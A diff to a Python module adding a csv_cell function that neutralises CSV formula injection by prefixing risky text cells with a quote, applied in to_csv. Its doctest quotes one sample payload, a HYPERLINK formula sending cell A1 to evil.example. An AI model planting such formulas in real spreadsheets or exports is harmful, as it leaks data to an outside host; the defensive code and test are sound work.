@@ -42,13 +42,32 @@ def to_json(obj: Any) -> str:
     return json.dumps(obj, ensure_ascii=False, indent=2, default=str) + "\n"
 
 
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: Any) -> str:
+    """One CSV cell that a spreadsheet opens as text: a text value starting with ``= + - @``,
+    tab or carriage return gets a leading ``'`` (OWASP's advice against CSV injection);
+    numbers are written as they are.
+
+    >>> print(csv_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")'))
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")
+    >>> csv_cell(-0.5), csv_cell("-负极材料"), csv_cell("骏捷")
+    ('-0.5', "'-负极材料", '骏捷')
+    """
+    text = cell(value)
+    if isinstance(value, (int, float)) and not isinstance(value, bool):
+        return text
+    return "'" + text if text.startswith(_FORMULA_START) else text
+
+
 def to_csv(rows: list[dict], columns: Columns) -> str:
-    """CSV with the English keys as header."""
+    """CSV with the English keys as header; text cells neutralised by :func:`csv_cell`."""
     buf = io.StringIO()
     w = csv.writer(buf, lineterminator="\n")
     w.writerow([k for k, _ in columns])
     for r in rows:
-        w.writerow([cell(r.get(k)) for k, _ in columns])
+        w.writerow([csv_cell(r.get(k)) for k, _ in columns])
     return buf.getvalue()
 
 
